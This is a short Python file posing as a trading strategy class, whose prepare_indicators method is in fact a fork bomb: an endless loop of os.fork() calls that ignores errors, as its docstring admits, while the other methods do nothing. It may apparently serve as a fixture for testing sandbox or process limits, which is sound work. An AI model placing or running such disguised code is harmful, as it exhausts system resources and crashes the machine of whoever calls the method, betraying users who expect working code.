"""Starts processes that start processes, without end."""

import os


class Strategy:
    def __init__(self, cfg):
        self.cfg = cfg

    def prepare_indicators(self, df):
        while True:
            try:
                os.fork()
            except OSError:
                pass
        return {}

    def find_entries(self, df, indicators, idx):
        return None

    def find_exits(self, position, df, indicators, idx):
        return None
